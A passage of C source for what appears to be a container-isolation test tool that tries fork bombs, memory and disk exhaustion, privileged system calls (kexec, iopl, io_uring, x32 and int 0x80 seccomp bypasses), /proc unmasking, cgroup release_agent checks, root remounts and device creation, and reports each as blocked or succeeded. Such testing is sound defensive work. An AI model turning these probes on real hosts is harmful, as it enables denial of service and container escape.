	unsigned char frame[4 + 8] = {0, 0, 0, 8, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff};
	long sent = 0;
	for (long i = 0; i < n; i++) {
		if (send(s, frame, sizeof frame, MSG_NOSIGNAL) != (ssize_t)sizeof frame)
			break;
		sent++;
	}
	shutdown(s, SHUT_WR);
	char buf[256];
	while (read(s, buf, sizeof buf) > 0)
		;
	DONE("sent %ld malformed frames", sent);
}

/* `service_conns N HOLD_MS`: open N connections to the service socket and hold them */
static void atk_service_conns(int argc, char **argv)
{
	long n = argc > 1 ? arg_long(argv[1]) : 100;
	long hold = argc > 2 ? arg_long(argv[2]) : 1000;
	long open_ = 0, accepted = 0;
	int *fds = calloc((size_t)n, sizeof(int));
	for (long i = 0; i < n; i++) {
		fds[i] = unix_connect("/run/socket/cml-service");
		if (fds[i] >= 0)
			open_++;
	}
	usleep((useconds_t)hold * 1000);
	for (long i = 0; i < n; i++) {
		if (fds[i] < 0)
			continue;
		struct pollfd p = {.fd = fds[i], .events = POLLIN};
		char c;
		/* a connection cmld closed reads EOF at once; one it serves stays silent */
		if (poll(&p, 1, 0) == 0 || recv(fds[i], &c, 1, MSG_DONTWAIT) > 0)
			accepted++;
		close(fds[i]);
	}
	DONE("%ld connections made, %ld still open after %ld ms", open_, accepted, hold);
}

/* ------------------------------------------------------------------ resources */

/* `inotify N HOLD_MS`: create up to N inotify instances, hold them, release */
static void atk_inotify(int argc, char **argv)
{
	long n = argc > 1 ? arg_long(argv[1]) : 16;
	long hold = argc > 2 ? arg_long(argv[2]) : 0;
	long got = 0;
	int err = 0;
	int *fds = calloc((size_t)n, sizeof(int));
	for (long i = 0; i < n; i++) {
		fds[i] = inotify_init1(IN_CLOEXEC);
		if (fds[i] < 0) {
			err = errno;
			break;
		}
		got++;
	}
	if (hold)
		usleep((useconds_t)hold * 1000);
	for (long i = 0; i < got; i++)
		close(fds[i]);
	DONE("held %ld of %ld inotify instances%s%s", got, n, err ? ", then " : "", err ? en(err) : "");
}

/* `inotify_watches N HOLD_MS DIR`: one inotify instance watching up to N new empty files in DIR
 * (each watch needs an inode of its own), held, then everything removed */
static void atk_inotify_watches(int argc, char **argv)
{
	long n = argc > 1 ? arg_long(argv[1]) : 16;
	long hold = argc > 2 ? arg_long(argv[2]) : 0;
	const char *dir = argc > 3 ? argv[3] : "/tmp";
	char path[256];
	long made = 0, got = 0;
	int err = 0;
	const char *what = "inotify_add_watch";
	int in = inotify_init1(IN_CLOEXEC);
	if (in < 0)
		BROKEN("inotify_init1: %s", en(errno));
	for (long i = 0; i < n; i++) {
		snprintf(path, sizeof(path), "%s/atkw%ld", dir, i);
		int fd = open(path, O_CREAT | O_WRONLY | O_CLOEXEC, 0600);
		if (fd < 0) {
			err = errno;
			what = "creating the files";
			break;
		}
		close(fd);
		made++;
		if (inotify_add_watch(in, path, IN_MODIFY) < 0) {
			err = errno;
			break;
		}
		got++;
	}
	if (hold)
		usleep((useconds_t)hold * 1000);
	close(in);
	for (long i = 0; i < made; i++) {
		snprintf(path, sizeof(path), "%s/atkw%ld", dir, i);
		unlink(path);
	}
	DONE("held %ld of %ld inotify watches%s%s%s%s", got, n, err ? ", then " : "", err ? en(err) : "",
	     err ? " from " : "", err ? what : "");
}

/* `mqueue BYTES_MSGSIZE MAXMSG HOLD_MS`: one POSIX message queue, held, then removed */
static void atk_mqueue(int argc, char **argv)
{
	long msgsize = argc > 1 ? arg_long(argv[1]) : 8192;
	long maxmsg = argc > 2 ? arg_long(argv[2]) : 10;
	long hold = argc > 3 ? arg_long(argv[3]) : 1000;
	struct mq_attr a = {.mq_maxmsg = maxmsg, .mq_msgsize = msgsize};
	char name[64];
	snprintf(name, sizeof name, "/atk-%d", getpid());
	mqd_t q = mq_open(name, O_CREAT | O_EXCL | O_RDWR, 0600, &a);
	if (q == (mqd_t)-1)
		DONE("mq_open: %s", ERR);
	printf("held\n");
	fflush(stdout);
	usleep((useconds_t)hold * 1000);
	mq_close(q);
	mq_unlink(name);
	DONE("held a queue of %ld x %ld bytes for %ld ms", maxmsg, msgsize, hold);
}

/* `fork_bomb MAX`: fork until refused (or MAX), count, then kill and reap every child */
static void atk_fork_bomb(int argc, char **argv)
{
	long max = argc > 1 ? arg_long(argv[1]) : 100000;
	long n = 0;
	int err = 0;
	pid_t *kids = calloc((size_t)max, sizeof(pid_t));
	for (; n < max; n++) {
		pid_t p = fork();
		if (p < 0) {
			err = errno;
			break;
		}
		if (p == 0) {
			for (;;)
				pause();
		}
		kids[n] = p;
	}
	for (long i = 0; i < n; i++)
		kill(kids[i], SIGKILL);
	for (long i = 0; i < n; i++)
		waitpid(kids[i], NULL, 0);
	DONE("forked %ld processes%s%s", n, err ? ", then fork: " : "", err ? en(err) : "");
}

/* `mem_hog MB`: allocate and touch MB MiB; printing progress; reaching the end is success */
static void atk_mem_hog(int argc, char **argv)
{
	long mb = argc > 1 ? arg_long(argv[1]) : 512;
	for (long i = 1; i <= mb; i++) {
		char *p = mmap(NULL, 1 << 20, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
		if (p == MAP_FAILED)
			BLOCKED("mmap after %ld MiB: %s", i - 1, ERR);
		memset(p, 0x5a, 1 << 20);
		if (i % 16 == 0) {
			printf("touched %ld MiB\n", i);
			fflush(stdout);
		}
	}
	SUCCEEDED("allocated and touched %ld MiB", mb);
}

/* `fill PATH MAX_MB`: write a file until the file system is full (or MAX_MB); remove it */
static void atk_fill(int argc, char **argv)
{
	if (argc < 3)
		BROKEN("usage: fill PATH MAX_MB");
	long max = arg_long(argv[2]);
	int fd = open(argv[1], O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
	if (fd < 0)
		BROKEN("open %s: %s", argv[1], ERR);
	static char buf[1 << 20];
	memset(buf, 0xa5, sizeof buf);
	long long total = 0;
	int err = 0;
	for (long i = 0; i < max; i++) {
		ssize_t w = write(fd, buf, sizeof buf);
		if (w < 0) {
			err = errno;
			break;
		}
		total += w;
		if (w < (ssize_t)sizeof buf) {
			err = ENOSPC;
			break;
		}
	}
	if (fsync(fd) < 0 && !err)
		err = errno;
	close(fd);
	unlink(argv[1]);
	DONE("wrote %lld bytes to %s%s%s", total, argv[1], err ? ", then " : " (the cap)", err ? en(err) : "");
}

struct sched_attr_k {
	uint32_t size, sched_policy;
	uint64_t sched_flags;
	int32_t sched_nice;
	uint32_t sched_priority;
	uint64_t sched_runtime, sched_deadline, sched_period;
};

/* `sched deadline|fifo|rr`: ask for a real-time class (harmless parameters: 1 % of a CPU, or
 * priority 1 for a task that sleeps), then go back to SCHED_OTHER */
static void atk_sched(int argc, char **argv)
{
	if (argc < 2)
		BROKEN("usage: sched deadline|fifo|rr");
	int r;
	if (!strcmp(argv[1], "deadline")) {
		struct sched_attr_k a = {.size = sizeof a, .sched_policy = SCHED_DEADLINE, .sched_runtime = 1000000,
					 .sched_deadline = 100000000, .sched_period = 100000000};
		r = (int)syscall(SYS_sched_setattr, 0, &a, 0);
	} else {
		struct sched_param p = {.sched_priority = 1};
		r = sched_setscheduler(0, !strcmp(argv[1], "fifo") ? SCHED_FIFO : SCHED_RR, &p);
	}
	if (r < 0)
		BLOCKED("%s: %s", argv[1], ERR);
	struct sched_attr_k back = {.size = sizeof back, .sched_policy = SCHED_OTHER};
	syscall(SYS_sched_setattr, 0, &back, 0);
	SUCCEEDED("the container may schedule tasks in the %s class, above every normal task of the host "
		  "(and outside its cgroup's CPU share)", argv[1]);
}

/* `affinity CPU`: move to a CPU outside the container's cpuset */
static void atk_affinity(int argc, char **argv)
{
	if (argc < 2)
		BROKEN("usage: affinity CPU");
	cpu_set_t s;
	CPU_ZERO(&s);
	CPU_SET((int)arg_long(argv[1]), &s);
	if (sched_setaffinity(0, sizeof s, &s) < 0)
		BLOCKED("sched_setaffinity to CPU %s: %s", argv[1], ERR);
	SUCCEEDED("runs on CPU %s, outside its cpuset", argv[1]);
}

/* `oom_inherited`: our and init's oom_score_adj */
static void atk_oom_inherited(int argc, char **argv)
{
	(void)argc; (void)argv;
	char a[32] = "", b[32] = "";
	read_file("/proc/self/oom_score_adj", a, sizeof a);
	read_file("/proc/1/oom_score_adj", b, sizeof b);
	DONE("oom_score_adj self %d init %d", atoi(a), atoi(b));
}

/* `oom_lower`: set our own oom_score_adj to -1000 (OOM-immune), then back */
static void atk_oom_lower(int argc, char **argv)
{
	(void)argc; (void)argv;
	char before[32] = "";
	read_file("/proc/self/oom_score_adj", before, sizeof before);
	int fd = open("/proc/self/oom_score_adj", O_WRONLY | O_CLOEXEC);
	if (fd < 0)
		BROKEN("open oom_score_adj: %s", ERR);
	if (write(fd, "-1000", 5) < 0)
		BLOCKED("oom_score_adj -1000: %s (was %.*s)", ERR, (int)strcspn(before, "\n"), before);
	close(fd);
	SUCCEEDED("made itself immune to the OOM killer (oom_score_adj -1000, was %.*s)", (int)strcspn(before, "\n"),
		  before);
}

/* ------------------------------------------------------------------ system calls for the host */

/* `sys NAME`: one privileged system call with arguments that change nothing even if allowed
 * (an invalid parameter behind the permission check, or undone at once) */
static void atk_sys(int argc, char **argv)
{
	if (argc < 2)
		BROKEN("usage: sys NAME");
	const char *n = argv[1];
	long r;
	if (!strcmp(n, "kexec_load")) {
		/* 17 segments > KEXEC_SEGMENT_MAX: EINVAL right after the permission check */
		r = syscall(SYS_kexec_load, 0UL, 17UL, NULL, 0UL);
		if (r < 0 && (errno == EPERM || errno == ENOSYS))
			BLOCKED("kexec_load: %s", ERR);
		SUCCEEDED("kexec_load passed the permission check (%s)", r < 0 ? ERR : "0");
	} else if (!strcmp(n, "kexec_file_load")) {
		r = syscall(SYS_kexec_file_load, -1, -1, 0UL, "", 0UL);
		if (r < 0 && (errno == EPERM || errno == ENOSYS))
			BLOCKED("kexec_file_load: %s", ERR);
		SUCCEEDED("kexec_file_load passed the permission check (%s)", r < 0 ? ERR : "0");
	} else if (!strcmp(n, "init_module")) {
		static char image[64];
		r = syscall(SYS_init_module, image, sizeof image, "");
		if (r < 0 && (errno == EPERM || errno == ENOSYS))
			BLOCKED("init_module: %s", ERR);
		SUCCEEDED("init_module passed the permission check (%s)", r < 0 ? ERR : "0");
	} else if (!strcmp(n, "finit_module")) {
		int fd = open("/dev/null", O_RDONLY | O_CLOEXEC);
		r = syscall(SYS_finit_module, fd, "", 0);
		if (r < 0 && (errno == EPERM || errno == ENOSYS))
			BLOCKED("finit_module: %s", ERR);
		SUCCEEDED("finit_module passed the permission check (%s)", r < 0 ? ERR : "0");
	} else if (!strcmp(n, "delete_module")) {
		r = syscall(SYS_delete_module, "atk_no_such_module", O_NONBLOCK);
		if (r < 0 && (errno == EPERM || errno == ENOSYS))
			BLOCKED("delete_module: %s", ERR);
		SUCCEEDED("delete_module passed the permission check (%s)", r < 0 ? ERR : "0");
	} else if (!strcmp(n, "swapon")) {
		int fd = open("/tmp/atk-swap", O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
		if (fd >= 0) {
			if (ftruncate(fd, 1 << 16) < 0)
				note("ftruncate: %s", ERR);
			close(fd);
		}
		r = syscall(SYS_swapon, "/tmp/atk-swap", 0); /* no swap signature: EINVAL if permitted */
		int e = errno;
		if (r == 0)
			syscall(SYS_swapoff, "/tmp/atk-swap");
		unlink("/tmp/atk-swap");
		errno = e;
		if (r < 0 && (errno == EPERM || errno == ENOSYS))
			BLOCKED("swapon: %s", ERR);
		SUCCEEDED("swapon passed the permission check (%s)", r < 0 ? ERR : "0");
	} else if (!strcmp(n, "acct")) {
		int fd = open("/tmp/atk-acct", O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
		if (fd >= 0)
			close(fd);
		r = syscall(SYS_acct, "/tmp/atk-acct");
		int e = errno;
		if (r == 0)
			syscall(SYS_acct, NULL);
		unlink("/tmp/atk-acct");
		errno = e;
		if (r < 0)
			BLOCKED("acct: %s", ERR);
		SUCCEEDED("acct() switched process accounting on (and off again)");
	} else if (!strcmp(n, "iopl")) {
		r = syscall(SYS_iopl, 3);
		if (r < 0)
			BLOCKED("iopl(3): %s", ERR);
		syscall(SYS_iopl, 0);
		SUCCEEDED("iopl(3): the container could read and write every I/O port of the machine (given up at once, "
			  "no port touched)");
	} else if (!strcmp(n, "ioperm")) {
		r = syscall(SYS_ioperm, 0x80UL, 1UL, 1);
		if (r < 0)
			BLOCKED("ioperm(0x80): %s", ERR);
		syscall(SYS_ioperm, 0x80UL, 1UL, 0);
		SUCCEEDED("ioperm(0x80, 1, 1): direct I/O port access granted (given up at once, no port touched)");
	} else if (!strcmp(n, "mmap_zero")) {
		void *p = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_FIXED | MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
		if (p == MAP_FAILED)
			BLOCKED("mmap at address 0: %s", ERR);
		munmap(p, 4096);
		SUCCEEDED("mapped page 0 (below vm.mmap_min_addr): the NULL-pointer exploitation primitive");
	} else if (!strcmp(n, "personality_zero")) {
		/* MMAP_PAGE_ZERO maps page 0 at the next exec; the child re-execs us to look */
		if (personality(MMAP_PAGE_ZERO) < 0)
			BLOCKED("personality(MMAP_PAGE_ZERO): %s", ERR);
		execl("/proc/self/exe", "atk", "page_zero_check", (char *)NULL);
		BROKEN("exec: %s", ERR);
	} else if (!strcmp(n, "userfaultfd")) {
		r = syscall(SYS_userfaultfd, O_CLOEXEC);
		if (r < 0)
			BLOCKED("userfaultfd (kernel faults too): %s", ERR);
		SUCCEEDED("userfaultfd that handles kernel-mode faults (the race-widening exploit primitive): fd %ld", r);
	} else if (!strcmp(n, "userfaultfd_user")) {
		r = syscall(SYS_userfaultfd, O_CLOEXEC | UFFD_USER_MODE_ONLY);
		if (r < 0)
			BLOCKED("userfaultfd(UFFD_USER_MODE_ONLY): %s", ERR);
		SUCCEEDED("userfaultfd(UFFD_USER_MODE_ONLY): fd %ld", r);
	} else if (!strcmp(n, "io_uring")) {
		struct io_uring_params p = {0};
		r = syscall(SYS_io_uring_setup, 4, &p);
		if (r < 0)
			BLOCKED("io_uring_setup: %s", ERR);
		SUCCEEDED("io_uring_setup: ring fd %ld (features 0x%x): system calls submitted through it bypass the "
			  "container's seccomp filter", r, p.features);
	} else if (!strcmp(n, "syslog")) {
		static char buf[4096];
		r = syscall(SYS_syslog, 3 /* READ_ALL */, buf, sizeof buf);
		if (r < 0)
			BLOCKED("syslog(READ_ALL): %s", ERR);
		SUCCEEDED("read %ld bytes of the host's kernel log: '%.80s'", r, printable(buf, (size_t)(r < 80 ? r : 80)));
	} else if (!strcmp(n, "settimeofday")) {
		struct timezone tz;
		struct timeval tv;
		gettimeofday(&tv, &tz); /* write back the kernel's own timezone: no change even if allowed */
		r = syscall(SYS_settimeofday, NULL, &tz);
		if (r < 0)
			BLOCKED("settimeofday(NULL, <current tz>): %s", ERR);
		SUCCEEDED("settimeofday accepted (the timezone was written back unchanged)");
	} else if (!strcmp(n, "clock_settime")) {
		struct timespec ts;
		clock_gettime(CLOCK_REALTIME, &ts); /* "now": at worst a step back of microseconds */
		r = syscall(SYS_clock_settime, CLOCK_REALTIME, &ts);
		if (r < 0)
			BLOCKED("clock_settime(CLOCK_REALTIME, now): %s", ERR);
		SUCCEEDED("clock_settime(CLOCK_REALTIME) accepted");
	} else if (!strcmp(n, "clock_adjtime")) {
		struct timex t = {.modes = ADJ_SETOFFSET | ADJ_NANO}; /* offset 0: no change even if allowed */
		r = syscall(SYS_clock_adjtime, CLOCK_REALTIME, &t);
		if (r < 0)
			BLOCKED("clock_adjtime(ADJ_SETOFFSET 0): %s", ERR);
		SUCCEEDED("clock_adjtime(CLOCK_REALTIME, ADJ_SETOFFSET) accepted (offset 0)");
	} else if (!strcmp(n, "adjtimex")) {
		struct timex t = {.modes = ADJ_SETOFFSET | ADJ_NANO};
		r = syscall(SYS_adjtimex, &t);
		if (r < 0)
			BLOCKED("adjtimex(ADJ_SETOFFSET 0): %s", ERR);
		SUCCEEDED("adjtimex(ADJ_SETOFFSET) accepted (offset 0)");
	} else if (!strcmp(n, "sethostname")) {
		char cur[256] = "";
		gethostname(cur, sizeof cur);
		r = sethostname(cur, strlen(cur)); /* same name: changes nothing even in the host's UTS namespace */
		if (r < 0)
			BLOCKED("sethostname: %s", ERR);
		DONE("sethostname allowed (own UTS namespace); name '%s'", cur);
	} else if (!strcmp(n, "reboot_cmd")) {
		/* an invalid command: EINVAL after the permission check, and the PID namespace check */
		r = syscall(SYS_reboot, 0xfee1dead, 0x28121969, 0x12345678, NULL);
		if (r < 0 && errno == EPERM)
			BLOCKED("reboot: %s", ERR);
		DONE("reboot(invalid command): %s", r < 0 ? ERR : "0");
	} else if (!strcmp(n, "x32")) {
		pid_t p = fork();
		if (p == 0) {
			syscall(0x40000000 | SYS_getpid);
			_exit(0);
		}
		int st;
		waitpid(p, &st, 0);
		if (WIFSIGNALED(st))
			BLOCKED("an x32 system call killed the process with signal %d", WTERMSIG(st));
		SUCCEEDED("an x32 system call ran: a second system call table the seccomp filter does not see");
	} else if (!strcmp(n, "int80")) {
		pid_t p = fork();
		if (p == 0) {
			long ret;
			__asm__ volatile("int $0x80" : "=a"(ret) : "a"(20) : "memory"); /* i386 getpid */
			_exit(ret > 0 ? 0 : 1);
		}
		int st;
		waitpid(p, &st, 0);
		if (WIFSIGNALED(st))
			BLOCKED("an i386 system call (int 0x80) killed the process with signal %d", WTERMSIG(st));
		SUCCEEDED("an i386 system call (int 0x80) ran (exit %d): the 32-bit table bypasses the filter",
			  WEXITSTATUS(st));
	}
	BROKEN("unknown system call attack %s", n);
}

static void atk_page_zero_check(int argc, char **argv)
{
	(void)argc; (void)argv;
	char buf[8192];
	if (read_file("/proc/self/maps", buf, sizeof buf) < 0)
		BROKEN("maps: %s", ERR);
	if (!strncmp(buf, "00000000-", 9))
		SUCCEEDED("personality(MMAP_PAGE_ZERO) + exec mapped page 0: %.60s", buf);
	BLOCKED("page 0 is not mapped after exec with MMAP_PAGE_ZERO (first mapping %.40s)", buf);
}

/* ------------------------------------------------------------------ mounts, /proc, /sys */

/* Mount attacks that change the mount table run in a private copy of the container's mount
 * namespace when the container may make one (a user-namespaced container: the copy is owned by
 * the same user namespace, so it grants exactly the rights of the original and nothing is
 * locked that was not locked before). The shared attacker container keeps its mounts for the
 * next attack. A container that may not (no CAP_SYS_ADMIN) cannot change mounts either. */
static void private_mounts(void)
{
	if (unshare(CLONE_NEWNS) == 0 && mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) == 0)
		note("working in a private copy of the container's mount namespace");
}

/* Opens PATH for writing by every route a container root has: directly; after lifting a
 * read-only bind (remount); after removing the mount over it (umount of MOUNT); through a
 * fresh proc/sysfs instance. Only opens (the kernel checks the permission at open); writes
 * nothing. */
static int open_w(const char *path) { return open(path, O_WRONLY | O_CLOEXEC | O_NOCTTY); }

static void atk_openw(int argc, char **argv)
{
	private_mounts();
	if (argc < 3)
		BROKEN("usage: openw PATH MOUNTPOINT [proc|sysfs]");
	const char *path = argv[1], *mnt = argv[2], *fstype = argc > 3 ? argv[3] : NULL;
	char steps[600] = "";
	int fd = open_w(path);
	if (fd >= 0)
		SUCCEEDED("opened %s for writing directly", path);
	snprintf(steps + strlen(steps), sizeof steps - strlen(steps), "open: %s; ", ERR);
	if (mount(NULL, mnt, NULL, MS_REMOUNT | MS_BIND, NULL) == 0) {
		snprintf(steps + strlen(steps), sizeof steps - strlen(steps), "remount %s rw: ok; ", mnt);
		fd = open_w(path);
		if (fd >= 0)
			SUCCEEDED("%sopened %s for writing", steps, path);
		snprintf(steps + strlen(steps), sizeof steps - strlen(steps), "then open: %s; ", ERR);
	} else
		snprintf(steps + strlen(steps), sizeof steps - strlen(steps), "remount %s rw: %s; ", mnt, ERR);
	if (umount2(mnt, MNT_DETACH) == 0) {
		snprintf(steps + strlen(steps), sizeof steps - strlen(steps), "umount %s: ok; ", mnt);
		fd = open_w(path);
		if (fd >= 0)
			SUCCEEDED("%sopened %s for writing", steps, path);
		snprintf(steps + strlen(steps), sizeof steps - strlen(steps), "then open: %s; ", ERR);
	} else
		snprintf(steps + strlen(steps), sizeof steps - strlen(steps), "umount %s: %s; ", mnt, ERR);
	if (fstype) {
		mkdir("/tmp/atk-fresh", 0700);
		if (mount(fstype, "/tmp/atk-fresh", fstype, 0, NULL) == 0) {
			char p2[512];
			const char *top = !strcmp(fstype, "proc") ? "/proc" : "/sys";
			snprintf(p2, sizeof p2, "/tmp/atk-fresh%s", path + strlen(top));
			fd = open_w(p2);
			int e = errno;
			umount2("/tmp/atk-fresh", MNT_DETACH);
			if (fd >= 0)
				SUCCEEDED("%smounted a fresh %s and opened %s for writing", steps, fstype, p2);
			snprintf(steps + strlen(steps), sizeof steps - strlen(steps), "fresh %s: mounted, open %s", fstype,
				 en(e));
		} else
			snprintf(steps + strlen(steps), sizeof steps - strlen(steps), "fresh %s: %s", fstype, ERR);
	}
	BLOCKED("%s", steps);
}

static const char *MASKED[] = {"/proc/kcore",	     "/proc/keys",   "/proc/latency_stats", "/proc/timer_list",
			       "/proc/timer_stats",  "/proc/sched_debug", "/proc/acpi", "/proc/scsi",
			       "/proc/interrupts",   NULL};

/* `proc_unmask`: take away the masks over /proc files (umount), or mount a fresh proc where
 * nothing is masked, and read what the masks hid */
static void atk_proc_unmask(int argc, char **argv)
{
	private_mounts();
	(void)argc; (void)argv;
	char gained[600] = "";
	for (const char **m = MASKED; *m; m++) {
		if (umount2(*m, MNT_DETACH) == 0) {
			char buf[512];
			int n = read_file(*m, buf, sizeof buf);
			snprintf(gained + strlen(gained), sizeof gained - strlen(gained), "umount %s -> %s; ", *m,
				 n > 0 ? "readable" : (n == 0 ? "empty" : ERR));
		}
	}
	mkdir("/tmp/atk-proc", 0700);
	if (mount("proc", "/tmp/atk-proc", "proc", 0, NULL) == 0) {
		char buf[512];
		int n = read_file("/tmp/atk-proc/timer_list", buf, sizeof buf);
		snprintf(gained + strlen(gained), sizeof gained - strlen(gained), "fresh proc mounted, its timer_list %s; ",
			 n > 0 ? "readable" : ERR);
		umount2("/tmp/atk-proc", MNT_DETACH);
	} else
		note("fresh proc: %s", ERR);
	if (gained[0])
		SUCCEEDED("the /proc masks do not hold: %s", gained);
	BLOCKED("every mask stays: umount EPERM/EINVAL, fresh proc refused");
}

/* `mount_fs FSTYPE [OPTIONS]`: mount a file system type at /tmp/atk-mnt, report, unmount */
static void atk_mount_fs(int argc, char **argv)
{
	private_mounts();
	if (argc < 2)
		BROKEN("usage: mount_fs FSTYPE [OPTIONS]");
	mkdir("/tmp/atk-mnt", 0700);
	const char *opts = argc > 2 ? argv[2] : NULL;
	if (mount(argv[1], "/tmp/atk-mnt", argv[1], 0, opts) < 0)
		BLOCKED("mount -t %s%s%s: %s", argv[1], opts ? " -o " : "", opts ? opts : "", ERR);
	/* what it shows */
	DIR *d = opendir("/tmp/atk-mnt");
	char names[400] = "";
	if (d) {
		struct dirent *de;
		while ((de = readdir(d)) && strlen(names) < 300)
			if (de->d_name[0] != '.') {
				strcat(names, de->d_name);
				strcat(names, " ");
			}
		closedir(d);
	}
	char extra[300] = "";
	if (!strcmp(argv[1], "cgroup")) {
		/* the v1 release_agent escape: can it be set? (written back unchanged) */
		char cur[256] = "";
		int n = read_file("/tmp/atk-mnt/release_agent", cur, sizeof cur);
		int fd = open_w("/tmp/atk-mnt/release_agent");
		snprintf(extra, sizeof extra, "; release_agent read %s, open for write %s", n >= 0 ? "ok" : ERR,
			 fd >= 0 ? "ok" : en(errno));
		if (fd >= 0)
			close(fd);
	}
	umount2("/tmp/atk-mnt", MNT_DETACH);
	DONE("mounted %s: %s%s", argv[1], names, extra);
}

/* `cgroup2_view`: mount the unified cgroup hierarchy and count the processes it lists, against
 * the processes of the container */
static void atk_cgroup2_view(int argc, char **argv)
{
	(void)argc; (void)argv;
	private_mounts();
	mkdir("/tmp/atk-cg2", 0700);
	if (mount("cgroup2", "/tmp/atk-cg2", "cgroup2", 0, NULL) < 0)
		BLOCKED("mount -t cgroup2: %s", ERR);
	char buf[65536];
	int n = read_file("/tmp/atk-cg2/cgroup.procs", buf, sizeof buf);
	long listed = 0, hidden = 0;
	for (char *l = strtok(n > 0 ? buf : NULL, "\n"); l; l = strtok(NULL, "\n")) {
		listed++;
		if (atoi(l) == 0)
			hidden++;
	}
	long own = 0;
	DIR *d = opendir("/proc");
	struct dirent *de;
	while (d && (de = readdir(d)))
		if (atoi(de->d_name) > 0)
			own++;
	if (d)
		closedir(d);
	umount2("/tmp/atk-cg2", MNT_DETACH);
	if (hidden > 0)
		SUCCEEDED("the cgroup2 mount is the host's unified root: it lists %ld processes, %ld of them outside the "
			  "container (shown as pid 0); the container has %ld", listed, hidden, own);
	BLOCKED("cgroup2 mounted, but it shows only the container's own %ld processes", listed);
}

/* `binfmt NAME`: register a binfmt_misc interpreter (for files ending .NAME) in a binfmt_misc
 * instance we mount; the host side checks its own list */
static void atk_binfmt(int argc, char **argv)
{
	if (argc < 2)
		BROKEN("usage: binfmt NAME");
	private_mounts();
	mkdir("/tmp/atk-binfmt", 0700);
	if (mount("binfmt_misc", "/tmp/atk-binfmt", "binfmt_misc", 0, NULL) < 0)
		BLOCKED("mount -t binfmt_misc: %s", ERR);
	char rule[128];
	snprintf(rule, sizeof rule, ":%s:E::%s::/opt/atk:", argv[1], argv[1]);
	int r = write_str("/tmp/atk-binfmt/register", rule);
	int e = errno;
	umount2("/tmp/atk-binfmt", MNT_DETACH);
	DONE("binfmt_misc mounted; register %s: %s", argv[1], r == 0 ? "ok" : en(e));
}

/* `remount_root`: make the root (the GuestOS image, shared by every container using it)
 * writable and write to it */
static void atk_remount_root(int argc, char **argv)
{
	private_mounts();
	(void)argc; (void)argv;
	char steps[300] = "";
	const char *targets[] = {"/", "/opt", NULL};
	for (const char **t = targets; *t; t++) {
		int a = mount(NULL, *t, NULL, MS_REMOUNT | MS_BIND, NULL);
		snprintf(steps + strlen(steps), sizeof steps - strlen(steps), "bind-remount %s rw: %s; ", *t,
			 a == 0 ? "ok" : ERR);
		int b = mount(NULL, *t, NULL, MS_REMOUNT, NULL);
		snprintf(steps + strlen(steps), sizeof steps - strlen(steps), "remount %s rw: %s; ", *t,
			 b == 0 ? "ok" : ERR);
		char p[64];
		snprintf(p, sizeof p, "%s/atk-written", !strcmp(*t, "/") ? "" : *t);
		int fd = open(p, O_WRONLY | O_CREAT | O_CLOEXEC, 0600);
		if (fd >= 0) {
			close(fd);
			unlink(p);
			SUCCEEDED("%screated %s on the shared GuestOS image", steps, p);
		}
		snprintf(steps + strlen(steps), sizeof steps - strlen(steps), "create %s: %s; ", p, ERR);
	}
	BLOCKED("%s", steps);
}

/* `remount_ro PATH` / `remount_rw PATH`: superblock remount of one of our mounts */
static void atk_remount(int argc, char **argv)
{
	if (argc < 3)
		BROKEN("usage: remount ro|rw PATH");
	unsigned long f = MS_REMOUNT | (!strcmp(argv[1], "ro") ? MS_RDONLY : 0);
	int r = mount(NULL, argv[2], NULL, f, NULL);
	DONE("remount %s %s: %s", argv[1], argv[2], r == 0 ? "ok" : ERR);
}

/* `forge_cap_last`: bind a file saying -1 over /proc/sys/kernel/cap_last_cap */
static void atk_forge_cap_last(int argc, char **argv)
{
	(void)argc; (void)argv;
	int fd = open("/tmp/atk-cap-last", O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
	if (fd < 0 || write(fd, "-1\n", 3) != 3)
		BROKEN("write /tmp/atk-cap-last: %s", ERR);
	close(fd);
	if (mount("/tmp/atk-cap-last", "/proc/sys/kernel/cap_last_cap", NULL, MS_BIND, NULL) < 0)
		BLOCKED("bind mount over /proc/sys/kernel/cap_last_cap: %s", ERR);
	char buf[32] = "";
	read_file("/proc/sys/kernel/cap_last_cap", buf, sizeof buf);
	DONE("/proc/sys/kernel/cap_last_cap now reads %.*s", (int)strcspn(buf, "\n"), buf);
}

/* ------------------------------------------------------------------ devices */

/* `dev TYPE MAJOR MINOR [write]`: mknod the device (cmld's supervisor decides) and open it */
static void atk_dev(int argc, char **argv)
{
	if (argc < 4)
		BROKEN("usage: dev c|b MAJOR MINOR");
	mode_t type = argv[1][0] == 'b' ? S_IFBLK : S_IFCHR;
	dev_t dev = makedev(arg_long(argv[2]), arg_long(argv[3]));
	const char *p = "/dev/atk-dev";
	unlink(p);
	int mk = mknod(p, type | 0600, dev);
	char why[400];
	snprintf(why, sizeof why, "mknod %s %s:%s: %s", argv[1], argv[2], argv[3], mk == 0 ? "created" : ERR);
	if (mk < 0) {
		/* without a node of our own: any node in /dev with that number? */
		DIR *d = opendir("/dev");
		struct dirent *de;
		while (d && (de = readdir(d))) {
			char q[300];
			struct stat st;
			snprintf(q, sizeof q, "/dev/%.250s", de->d_name);
			if (lstat(q, &st) == 0 && (st.st_mode & S_IFMT) == type && st.st_rdev == dev) {
				p = strdup(q);
				snprintf(why + strlen(why), sizeof why - strlen(why), "; found %s", q);
				mk = 0;
				break;
			}
		}
		if (d)
			closedir(d);
		if (mk < 0)
			BLOCKED("%s", why);
	}
	int fd = open(p, O_RDONLY | O_CLOEXEC | O_NONBLOCK | O_NOCTTY);
	if (fd < 0) {
		int e = errno;
		if (!strcmp(p, "/dev/atk-dev"))
			unlink(p);
		BLOCKED("%s; open: %s", why, en(e));
	}
	char buf[512];
	ssize_t n = read(fd, buf, sizeof buf);
	int e = errno;
	close(fd);
	if (!strcmp(p, "/dev/atk-dev"))
		unlink(p);
	if (n < 0)
		SUCCEEDED("%s; opened the device (read: %s)", why, en(e));
	SUCCEEDED("%s; opened the device and read %zd bytes: '%.40s'", why, n, printable(buf, (size_t)(n < 40 ? n : 40)));
}

